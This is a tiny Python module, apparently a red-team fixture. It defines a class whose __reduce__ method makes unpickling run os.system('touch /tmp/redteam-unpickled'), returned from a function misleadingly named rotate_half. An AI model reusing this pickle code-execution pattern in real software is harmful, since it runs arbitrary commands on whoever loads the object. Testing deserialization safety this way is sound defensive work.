"""Returns a trap."""

import os


class _Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-unpickled",)


def rotate_half(x):
    return _Trap()
